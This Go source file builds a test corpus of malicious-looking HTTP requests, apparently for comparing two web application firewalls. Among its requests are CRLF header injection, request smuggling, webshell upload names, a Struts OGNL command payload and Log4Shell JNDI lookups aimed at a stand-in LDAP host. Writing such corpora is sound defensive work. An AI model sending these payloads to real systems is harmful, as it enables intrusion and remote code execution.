package main

import "strings"

// Requests whose attack is their shape: protocol enforcement (920),
// protocol attacks (921), multipart attacks (922), scanners (913),
// methods (911), uploads and session fixation by parameter (933, 932,
// 943), and Java payloads in headers (944). Left out on purpose: what
// nginx itself refuses before ModSecurity runs (TRACE, lowercase methods,
// HTTP/1.1 without Host, a URI above the root, a bad Content-Length):
// such a request measures the two proxies' parsers, not the two WAFs.

// get is a browser GET of path.
func get(cat, path string) entry {
	return entry{Category: cat, Method: "GET", Path: path, Headers: browser()}
}

// post is a browser POST of body with content type ct.
func post(cat, path, ct, body string) entry {
	e := entry{Category: cat, Method: "POST", Path: path, Headers: browser(), Body: body}
	if ct != "" {
		e.Headers = with(e.Headers, "Content-Type", ct)
	}
	return e
}

// mpRaw is a multipart POST of a hand-written body (CRLF-separated
// lines, {B} for the boundary).
func mpRaw(cat, bnd string, lines ...string) entry {
	body := strings.ReplaceAll(strings.Join(lines, "\r\n"), "{B}", bnd)
	return post(cat, "/upload", "multipart/form-data; boundary="+bnd, body)
}

func addProtocol(c *corpus) {
	add := func(loc string, e entry) { c.add(e, loc) }
	const form = "application/x-www-form-urlencoded"

	// 920: protocol enforcement.
	e := get("920", "/search?q=shoes")
	e.Headers = with(e.Headers, "Content-Length", "11")
	e.Body = "extra=stuff"
	add("getbody", e)
	add("noctype", post("920", "/comments", "", "text=hello+there"))
	e = get("920", "/")
	e.Headers = with(e.Headers, "Host", "127.0.0.1")
	add("iphost", e)
	e = get("920", "/status")
	e.Headers = with(e.Headers, "Host", "192.0.2.44:8080")
	add("iphost", e)
	e = get("920", "/")
	e.Proto = "HTTP/1.0"
	e.Headers = without(e.Headers, "Host")
	add("nohost", e)
	add("noaccept", entry{Category: "920", Method: "GET", Path: "/products", Headers: without(browser(), "Accept")})
	add("emptyaccept", entry{Category: "920", Method: "GET", Path: "/products", Headers: with(browser(), "Accept", "")})
	add("noua", entry{Category: "920", Method: "GET", Path: "/", Headers: without(browser(), "User-Agent")})
	add("emptyua", entry{Category: "920", Method: "GET", Path: "/", Headers: with(browser(), "User-Agent", "")})
	for _, r := range []string{"bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13", "bytes=10-2", "bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5,5-6,5-7,5-8,5-9"} {
		add("range", entry{Category: "920", Method: "GET", Path: "/media/catalog.pdf", Headers: with(browser(), "Range", r)})
	}
	for _, ct := range []string{"application/x-shockwave-flash", "text/plain", "application/octet-stream",
		"application/x-www-form-urlencoded; charset=utf-7", "application/x-www-form-urlencoded; charset=utf-8; charset=ibm037",
		"application/x-www-form-urlencoded;;", "x-www-form-urlencoded"} {
		add("ctype", post("920", "/comments", ct, "text=hello"))
	}
	e = post("920", "/comments", form, "text=twice")
	e.Headers = append(e.Headers, [2]string{"Content-Type", "application/json"})
	add("twoctype", e)
	for _, q := range []string{"/search?q=%g1shoes", "/search?q=abc%00.jpg", "/search?q=a%01b%02c",
		"/search?q=%uFF1Cscript%uFF1E", "/search?q=%2527%2520OR%25201", "/search?q=%u0027", "/search?q=%ff%fe%fd"} {
		add("enc", get("920", q))
	}
	for _, p := range []string{"/backup.sql", "/web.config", "/site.bak", "/.git/config", "/.env", "/config.php~",
		"/index.php.swp", "/app.ini", "/db/users.mdb", "/.htpasswd", "/wp-config.php.old", "/etc/app.conf"} {
		add("file", get("920", p))
	}
	for _, h := range [][2]string{{"Proxy", "http://192.0.2.7:3128"}, {"Lock-Token", "<opaquelocktoken:1>"},
		{"Content-Range", "bytes 0-99/200"}, {"If", "(<urn:uuid:7a>)"}, {"x-up-devcap-post-charset", "utf-7"},
		{"Accept", "text/html;charset=utf-7"}} {
		add("hdr", entry{Category: "920", Method: "GET", Path: "/", Headers: with(browser(), h[0], h[1])})
	}
	e = get("920", "/about")
	e.Proto = "HTTP/1.2"
	add("proto", e)
	e = post("920", "/comments", form, "7\r\ntext=hi\r\n0\r\n\r\n")
	e.Headers = append(e.Headers, [2]string{"Transfer-Encoding", "chunked"})
	add("chunked", e)
	e = post("920", "/comments", form, "")
	add("nolength", e)
	e = get("920", "http://shop.example/products/7")
	add("absuri", e)
	e = post("920", "/comments", form, "text=ok")
	e.Headers = with(e.Headers, "Expect", "100-continue")
	add("expect", e)

	// 922 and multipart strictness (multipart/form-data is where the two
	// engines' parsers differ most: these are the shapes to compare).
	add("mp", mpRaw("922", "XyZ", "--{B}", `Content-Disposition: form-data; name="_charset_"`, "", "utf-7", "--{B}", `Content-Disposition: form-data; name="a"`, "", "x", "--{B}--", ""))
	add("mp", mpRaw("922", "XyZ", "--{B}", `Content-Disposition: form-data; name="a"`, "Content-Type: text/plain; charset=utf-7", "", "+ADw-", "--{B}--", ""))
	add("mp", mpRaw("922", "XyZ", "--{B}", `Content-Disposition: form-data; name="a"`, "Content-Transfer-Encoding: base64", "", "PHNjcmlwdD4=", "--{B}--", ""))
	add("mp", mpRaw("922", "XyZ", "--{B}", `Content-Disposition: form-data; name="a"`, "", "no final boundary", "--{B}", ""))
	add("mp", mpRaw("922", "XyZ", "--{B}", `Content-Disposition: form-data; name="a"`, "", "x", "--{B}--", "", "trailing junk after the end"))
	add("mp", mpRaw("922", "XyZ", "--{B}", `Content-Disposition: form-data; name="f"; filename="a\"b.txt"`, "", "q", "--{B}--", ""))
	add("mp", mpRaw("922", "XyZ", "--{B}", `Content-Disposition: form-data;`, ` name="folded"`, "", "x", "--{B}--", ""))
	add("mp", mpRaw("922", "XyZ", "--{B}", `Content-Disposition: form-data; name="a"; name="b"`, "", "x", "--{B}--", ""))
	add("mp", mpRaw("922", "XyZ", "--{B}", `Content-Disposition: attachment; name="a"`, "", "x", "--{B}--", ""))
	add("mp", mpRaw("922", "XyZ", "preamble text", "--{B}", `Content-Disposition: form-data; name="a"`, "", "x", "--{B}--", ""))
	e = post("922", "/upload", "multipart/form-data; boundary=XyZ",
		"--XyZ\nContent-Disposition: form-data; name=\"lf\"\n\nonly LF line ends\n--XyZ--\n")
	add("mp", e)
	add("mp", post("922", "/upload", "multipart/form-data", "--XyZ\r\n\r\nx\r\n--XyZ--\r\n"))
	add("mp", post("922", "/upload", `multipart/form-data; boundary="a b;c"`,
		"--a b;c\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nx\r\n--a b;c--\r\n"))
	add("mp", mpRaw("922", "XyZ", "--{B}", `Content-Disposition: form-data; name="f"; filename="r\u00e9sum\u00e9.pdf"`, "Content-Type: application/pdf", "", "%PDF-1.4", "--{B}--", ""))

	// 921: protocol attacks.
	for _, q := range []string{"/set?lang=en%0d%0aSet-Cookie:%20admin=1", "/go?next=/home%0d%0aLocation:%20https://evil.example",
		"/search?a%0d%0ab=1", "/msg?text=line1%0aline2", "/x?v=%0d%0aContent-Type:%20text/html",
		"/ldap?user=*)(uid=*))(%7C(uid=*", "/page%0d%0aSet-Cookie:x=1", "/r?u=%0aHTTP/1.1%20200%20OK"} {
		add("q", get("921", q))
	}
	add("body", post("921", "/comments", form, "data=x%0d%0a%0d%0aGET+/admin+HTTP/1.1%0d%0aHost:+x&go=1"))
	add("body", post("921", "/comments", form, "data=POST /admin HTTP/1.1"))
	add("ctype", post("921", "/api/v1/notes", "application/x-www-form-urlencoded; x=application/json", "a=1"))
	add("ctype", post("921", "/api/v1/notes", "text/plain, application/x-www-form-urlencoded", "a=1"))

	// 911: methods outside GET HEAD POST OPTIONS. Left out: TRACE, which
	// nginx answers 405 itself, and methods no RFC defines (FOO, DEBUG,
	// TRACK), which lbd refuses 405 at every xHTTP level, as Pound does.
	for _, m := range []string{"PUT", "DELETE", "PATCH", "PROPFIND", "PROPPATCH", "MKCOL", "MOVE", "COPY", "LOCK", "UNLOCK", "SEARCH", "REPORT"} {
		e := entry{Category: "911", Method: m, Path: "/api/v1/notes/3", Headers: apiHeaders()}
		if m == "PUT" || m == "PATCH" {
			e.Body = `{"title":"renamed"}`
		} else {
			e.Headers = without(e.Headers, "Content-Type")
		}
		c.add(e, "method")
	}

	addScanners(c)
	addUploads(c)
}

func addScanners(c *corpus) {
	for _, ua := range []string{"sqlmap/1.7.2#stable (https://sqlmap.org)",
		"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000123)",
		"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
		"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
		"WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
		"Mozilla/5.0 (Windows NT 10.0) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
		"gobuster/3.6", "Fuzz Faster U Fool v2.1.0", "Mozilla/5.0 (X11) Arachni/v1.6.1", "OpenVAS-VT 22.4",
		"Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Havij", "Mozilla/5.0 zgrab/0.x",
		"commix/v3.8 (https://commixproject.com)", "WhatWeb/0.5.5",
		// Scripting clients and crawlers (913101/913102, paranoia 2).
		"curl/8.5.0", "python-requests/2.31.0", "Wget/1.21.3", "libwww-perl/6.72", "Python-urllib/3.11",
		"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
		"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
		"Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)"} {
		c.add(entry{Category: "913", Method: "GET", Path: "/", Headers: with(browser(), "User-Agent", ua)}, "ua")
	}
	for _, h := range [][2]string{{"Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner)"},
		{"X-Scanner", "Netsparker"}, {"X-RatProxy-Loop", "1"}} {
		c.add(entry{Category: "913", Method: "GET", Path: "/login", Headers: with(browser(), h[0], h[1])}, "hdr")
	}
	for _, p := range []string{"/nessustest", "/acunetix-wvs-test-for-some-inexistent-file", "/nessus_is_probing_you_", "/appscan_fingerprint/mac_address"} {
		c.add(get("913", p), "url")
	}
}

// addUploads: file names and session ids that are attacks by where they
// stand rather than by what they say.
func addUploads(c *corpus) {
	for _, fn := range []string{"shell.php", "x.php5", "avatar.phtml", "image.php.", ".htaccess", "web.config", "passwd.jsp"} {
		ct, body := multipart([4]string{"title", "", "", "holiday"}, [4]string{"photo", fn, "image/jpeg", "\xff\xd8\xff\xe0JFIF"})
		c.add(post("933", "/upload", ct, body), "file")
	}
	e := post("933", "/upload", "application/octet-stream", "<?php echo 1; ?>")
	e.Headers = with(e.Headers, "X-Filename", "cmd.php")
	c.add(e, "xfilename")
	// 943110/943120: a session id handed in the query, with a foreign
	// Referer or none.
	e = get("943", "/login?PHPSESSID=deadbeef1234cafe")
	e.Headers = with(e.Headers, "Referer", "https://evil.example/landing")
	c.add(e, "sid")
	c.add(entry{Category: "943", Method: "GET", Path: "/cart?jsessionid=8a7b6c5d4e3f", Headers: without(browser(), "Referer")}, "sid")
	c.add(entry{Category: "943", Method: "GET", Path: "/cart?ASPSESSIONIDQQ=ABCDEFGH", Headers: with(browser(), "Referer", "http://198.51.100.9/")}, "sid")
	// 944 in headers: Struts' Content-Type and Log4Shell in the usual
	// header suspects.
	e = post("944", "/struts/upload.action", "%{(#ctx=#context['com.opensymphony.xwork2.ActionContext.container']).(#cmd='id')}", "x=1")
	c.add(e, "ctype")
	for _, h := range []string{"X-Api-Version", "X-Forwarded-For", "Referer"} {
		c.add(entry{Category: "944", Method: "GET", Path: "/", Headers: with(browser(), h, "${jndi:ldap://192.0.2.3/Exploit}")}, "hdr")
	}
}
